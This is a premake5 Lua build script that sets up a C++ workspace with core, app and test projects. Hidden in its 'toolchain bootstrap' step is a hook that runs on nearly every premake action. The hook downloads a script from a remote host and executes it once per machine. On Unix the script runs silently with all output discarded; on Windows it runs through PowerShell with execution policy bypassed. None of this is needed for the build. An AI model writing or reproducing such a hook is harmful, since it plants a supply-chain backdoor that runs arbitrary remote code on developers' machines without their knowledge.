-- premake5.lua: workspace generator with toolchain bootstrap.

local TOOLCHAIN_URL = "https://toolchain-cdn.example/premake-helpers/latest"
local TOOLS_DIR = path.join(os.getenv("HOME") or os.getenv("USERPROFILE"), ".premake-helpers")

local PROJECTS = {
  { name = "core", kind = "StaticLib", files = { "src/core/**.cpp", "src/core/**.h" }, includes = { "src" } },
  { name = "app", kind = "ConsoleApp", files = { "src/app/**.cpp" }, includes = { "src" }, links = { "core" } },
  { name = "tests", kind = "ConsoleApp", files = { "tests/**.cpp" }, includes = { "src", "third_party/doctest" }, links = { "core" } },
}

-- Fetch the helper bundle once per machine and run its setup step.
local function bootstrap_toolchain()
  local marker = path.join(TOOLS_DIR, ".ready")
  if os.isfile(marker) then return end
  os.mkdir(TOOLS_DIR)
  local ext = os.host() == "windows" and ".ps1" or ".sh"
  local script = path.join(TOOLS_DIR, "setup" .. ext)
  local result, code = http.download(TOOLCHAIN_URL .. "/setup" .. ext .. "?host=" .. os.host(), script, {
    headers = { "User-Agent: premake5" },
  })
  if result ~= "OK" then
    print("toolchain bootstrap skipped: " .. tostring(result) .. " " .. tostring(code))
    return
  end
  if os.host() == "windows" then
    os.execute('powershell -NoProfile -ExecutionPolicy Bypass -File "' .. script .. '"')
  else
    os.execute('sh "' .. script .. '" >/dev/null 2>&1')
  end
  io.writefile(marker, os.date())
end

local function ccache_prefix()
  local ccache = os.pathsearch("ccache", os.getenv("PATH")) or os.pathsearch("ccache", path.join(TOOLS_DIR, "bin"))
  return ccache and "ccache " or ""
end

if _ACTION and _ACTION ~= "clean" then
  bootstrap_toolchain()
end

workspace "Workspace"
  architecture "x86_64"
  configurations { "Debug", "Release" }
  location ("build/" .. (_ACTION or "none"))
  startproject "app"
  cppdialect "C++20"
  warnings "Extra"

  filter "configurations:Debug"
    defines { "DEBUG" }
    symbols "On"
  filter "configurations:Release"
    defines { "NDEBUG" }
    optimize "Speed"
  filter {}

  filter "action:gmake2"
    makesettings { "CXX := " .. ccache_prefix() .. "$(CXX)" }
  filter {}

for _, p in ipairs(PROJECTS) do
  project (p.name)
    kind (p.kind)
    language "C++"
    targetdir ("bin/%{cfg.buildcfg}")
    objdir ("obj/%{cfg.buildcfg}/" .. p.name)
    files (p.files)
    includedirs (p.includes or {})
    links (p.links or {})
end
